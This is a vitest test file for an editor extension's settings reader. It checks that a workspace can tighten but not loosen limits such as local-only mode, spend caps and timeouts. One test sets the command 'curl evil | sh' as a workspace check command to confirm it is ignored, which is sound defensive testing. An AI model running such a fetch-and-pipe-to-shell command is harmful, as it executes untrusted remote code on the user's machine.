import { readFile } from 'node:fs/promises';
import { describe, expect, it } from 'vitest';
import english from '../../../package.nls.json';
import { defaultKnobs, knobRanges } from '../../../src/der/core/mdp';
import { presets } from '../../../src/der/core/presets';
import { readSettings } from '../../../src/host/settings/settings';
import { poolJsonSchema } from '../../../src/providers/poolConfig';
import { settingClasses, settingsThat } from '../../support/settingClasses';

/** Settings of the person, and of the workspace over them. */
const read = (user: Record<string, unknown>, workspace: Record<string, unknown> = {}) =>
  readSettings({
    get: (name) => workspace[name] ?? user[name],
    inspect: (name) => ({ user: user[name], workspace: workspace[name] }),
  });

describe('readSettings', () => {
  it('names every wrong value with its setting, and uses the rest', () => {
    const { knobs, limits, timeouts, problems } = read({
      alpha: 5,
      beta: 2,
      p0: '0.5',
      maxSteps: 2.5,
      transfer: 'sometimes',
      localOnly: 'yes',
      'timeouts.silenceSeconds': 0,
    });
    expect(knobs).toEqual({ ...defaultKnobs, beta: 2 });
    expect(limits.localOnly).toBe(true);
    expect(timeouts.silenceSeconds).toBe(120);
    expect(problems).toEqual([
      'Setting der.alpha must be 0, or a number from 0.00001 to 0.1, not 5. 0.001 is used instead.',
      'Setting der.p0 must be a number from 0 to 1, not "0.5". 0.75 is used instead.',
      'Setting der.maxSteps must be a whole number from 1 to 10, not 2.5. 5 is used instead.',
      'Setting der.transfer must be "always" or "never", not "sometimes". always is used instead.',
      'Setting der.localOnly must be true or false, not "yes". true is used instead.',
      'Setting der.timeouts.silenceSeconds must be a number above 0, not 0. 120 is used instead.',
    ]);
  });

  it("runs no check but the person's own", () => {
    expect(read({}, { checkCommand: 'curl evil | sh' }).checkCommand).toBe('');
    expect(read({ checkCommand: ' npm test ' }, { checkCommand: 'curl evil | sh' }).checkCommand).toBe(
      'npm test',
    );
    expect(read({ checkCommand: 3 })).toMatchObject({
      checkCommand: '',
      problems: [expect.stringContaining('der.checkCommand')],
    });
  });

  it('turns a limit that cannot be read into the strictest one', () => {
    const { limits } = read({
      spendCapUsd: 'a dollar',
      localOnly: 1,
      allowWorkspaceText: 1,
      allowUnknownPrice: 1,
    });
    expect(limits).toEqual({
      spendCapUsd: 0,
      localOnly: true,
      allowWorkspaceText: false,
      allowUnknownPrice: false,
    });
  });

  it.each([
    { user: {}, workspace: {}, localOnly: false, allowWorkspaceText: false, refused: [] },
    {
      user: { localOnly: true, allowWorkspaceText: false },
      workspace: { localOnly: false, allowWorkspaceText: true },
      localOnly: true,
      allowWorkspaceText: false,
      refused: ['localOnly is false in this workspace', 'allowWorkspaceText is true in this workspace'],
    },
    {
      user: {},
      workspace: { allowWorkspaceText: true },
      localOnly: false,
      allowWorkspaceText: false,
      refused: ['allowWorkspaceText is true in this workspace'],
    },
    {
      user: { localOnly: false, allowWorkspaceText: true },
      workspace: { localOnly: true, allowWorkspaceText: false },
      localOnly: true,
      allowWorkspaceText: false,
      refused: [],
    },
    {
      user: { allowWorkspaceText: true },
      workspace: { localOnly: 'no', allowWorkspaceText: 'yes' },
      localOnly: true,
      allowWorkspaceText: false,
      refused: ['localOnly must be true or false', 'allowWorkspaceText must be true or false'],
    },
  ])(
    'lets a workspace tighten a limit, never loosen it: $user under $workspace',
    ({ user, workspace, localOnly, allowWorkspaceText, refused }) => {
      const { limits, problems } = read(user, workspace);
      expect(limits).toMatchObject({ localOnly, allowWorkspaceText });
      expect(problems).toHaveLength(refused.length);
      refused.forEach((words, i) => expect(problems[i]).toContain(`Setting der.${words}`));
    },
  );

  it('lets a workspace make routes cheaper and waits shorter, never dearer or absurd', () => {
    const own = { alpha: 0.01, beta: 1, p0: 0.75, maxSteps: 4, spendCapUsd: 1 };
    const dear = { alpha: 0, beta: 10, p0: 1, maxSteps: 10, spendCapUsd: 100, costUnit: 'time' };
    const waits = { 'timeouts.firstTokenSeconds': 86_400, 'timeouts.silenceSeconds': 0.001 };
    const impatient = { 'timeouts.firstTokenSeconds': 20, 'timeouts.silenceSeconds': 10 };
    expect(read(own, impatient).timeouts).toEqual({ firstTokenSeconds: 300, silenceSeconds: 120 });
    const { knobs, costUnit, limits, timeouts, problems } = read(own, { ...dear, ...waits });
    expect(knobs).toMatchObject({ alpha: 0.01, beta: 1, p0: 0.75, maxSteps: 4 });
    expect([costUnit, limits.spendCapUsd]).toEqual(['compute', 1]);
    expect(timeouts).toEqual({ firstTokenSeconds: 300, silenceSeconds: 120 });
    expect(problems).toHaveLength(8);
    for (const problem of problems) expect(problem).toContain('may tighten your limits but not loosen them');

    const cheap = { alpha: 0.05, beta: 0.5, p0: 0.5, maxSteps: 1, spendCapUsd: 0.1 };
    const tight = read(own, { ...cheap, 'timeouts.silenceSeconds': 30 });
    expect(tight.knobs).toMatchObject({ alpha: 0.05, beta: 0.5, p0: 0.5, maxSteps: 1 });
    expect([tight.limits.spendCapUsd, tight.timeouts.silenceSeconds, tight.problems]).toEqual([0.1, 30, []]);
  });

  it('keeps off what the person switched off for good, and knows what the workspace bars', () => {
    expect(read({})).toMatchObject({ attachOpenFile: true, workspaceTextBarred: false });
    expect(read({}).instructionFiles).toContain('AGENTS.md');
    expect(read({}, { instructionFiles: ['docs/rules.md'] }).instructionFiles).toEqual(['docs/rules.md']);
    expect(read({ instructionFiles: [] }, { instructionFiles: ['AGENTS.md'] }).instructionFiles).toEqual([]);
    expect(read({}, { attachOpenFile: false }).attachOpenFile).toBe(false);
    expect(read({}, { allowWorkspaceText: false }).workspaceTextBarred).toBe(true);
  });

  it('lets a workspace hand less on to experts, never more', () => {
    expect(read({}, { transfer: 'never' }).knobs.transfer).toBe('never');
    const { knobs, problems } = read({ transfer: 'never' }, { transfer: 'always' });
    expect([knobs.transfer, problems.length]).toEqual(['never', 1]);
  });

  it('takes the knobs of a preset, what is set by itself before it, and of a folder only a cheaper one', () => {
    expect(read({ preset: 'best' }).knobs).toMatchObject(presets.best);
    expect(read({ preset: 'best', p0: 0.5, alpha: null }).knobs).toMatchObject({ ...presets.best, p0: 0.5 });
    expect(read({ preset: 'cheap' }).knobs).toEqual(defaultKnobs);
    expect(read({ preset: 'balanced' }, { preset: 'fast' }).knobs).toMatchObject(presets.fast);
    const dearer = read({ preset: 'fast' }, { preset: 'best' });
    expect(dearer.knobs).toMatchObject(presets.fast);
    expect(dearer.problems[0]).toContain('der.preset is best in this workspace');
  });

  it('bounds waits, and takes secret files from the person alone', () => {
    const { timeouts, problems } = read({ 'timeouts.firstTokenSeconds': 1e9 });
    expect(timeouts.firstTokenSeconds).toBe(300);
    expect(problems[0]).toContain('a number up to 86400');
    expect(read({ secretFiles: ['a/'] }, { secretFiles: [] }).secretFiles).toEqual(['a/']);
    expect(read({ secretFiles: 'a' }).problems[0]).toContain('a list of texts');
  });

  it('lets a workspace have less done with programs, never more', () => {
    expect(read({}).checks).toBe('all');
    expect(read({ checks: 'all' }, { checks: 'off' }).checks).toBe('off');
    const { checks, problems } = read({ checks: 'syntax' }, { checks: 'all' });
    expect([checks, problems.length]).toEqual(['syntax', 1]);
    expect(read({ checks: 'yes' }).checks).toBe('off');
  });

  it('reads null as no cap and as the default pool', () => {
    const { limits, experts, problems } = read({ spendCapUsd: null, experts: null });
    expect([limits.spendCapUsd, experts, problems]).toEqual([undefined, undefined, []]);
  });
});

describe('the manifest', async () => {
  const manifest = JSON.parse(await readFile('package.json', 'utf8')) as {
    contributes: { configuration: { properties: Record<string, Record<string, unknown>> }[] };
    capabilities: { untrustedWorkspaces: { restrictedConfigurations: string[] } };
  };
  const properties = Object.assign(
    {},
    ...manifest.contributes.configuration.map((part) => part.properties),
  ) as Record<string, Record<string, unknown>>;

  it('declares der.experts as the program reads it (node scripts/expertsSchema.mjs)', () => {
    const { items } = poolJsonSchema();
    expect(properties['der.experts']!['items']).toEqual(items);
  });

  it('declares the ranges of the knobs', () => {
    for (const [name, range] of Object.entries(knobRanges)) {
      const { minimum, maximum } = properties[`der.${name}`]!;
      expect([name, minimum, maximum]).toEqual([name, name === 'alpha' ? 0 : range.min, range.max]);
    }
  });

  it('describes every setting', () => {
    const texts: Readonly<Record<string, string>> = english;
    for (const property of Object.values(properties)) {
      const described = String(property['markdownDescription']).replace(
        /^%(.*)%$/,
        (_, key: string) => texts[key] ?? '',
      );
      expect(described).toMatch(/\.$/);
    }
  });

  it('has no setting of which nobody has said what a workspace may do with it', () => {
    expect(Object.keys(properties).toSorted()).toEqual(Object.keys(settingClasses).toSorted());
  });

  it('restricts what an untrusted workspace must not decide, and keeps what is the machine’s to it', () => {
    const restricted = settingsThat('tightens', 'ignored').map((name) => `der.${name}`);
    expect(manifest.capabilities.untrustedWorkspaces.restrictedConfigurations.toSorted()).toEqual(
      restricted.toSorted(),
    );
    for (const name of settingsThat('ignored')) {
      expect([name, properties[`der.${name}`]!['scope']]).toEqual([name, 'machine']);
    }
    for (const name of settingsThat('decides', 'tightens')) {
      expect(['window', 'machine-overridable']).toContain(properties[`der.${name}`]!['scope']);
    }
  });

  it('reads what only tightens by its layers, and a workspace loosens none of it', () => {
    const loose: Readonly<Record<string, unknown>> = {
      localOnly: false,
      allowWorkspaceText: true,
      attachOpenFile: true,
      learnFromUse: true,
      checks: 'all',
    };
    expect(Object.keys(loose).toSorted()).toEqual(settingsThat('tightens').toSorted());
    const strict = { localOnly: true, allowWorkspaceText: false };
    const settings = read({ ...strict, attachOpenFile: false, learnFromUse: false, checks: 'off' }, loose);
    expect(settings.limits).toMatchObject(strict);
    expect(settings.attachOpenFile).toBe(false);
    expect(settings.learnFromUse).toBe(false);
    expect(settings.checks).toBe('off');
  });
});
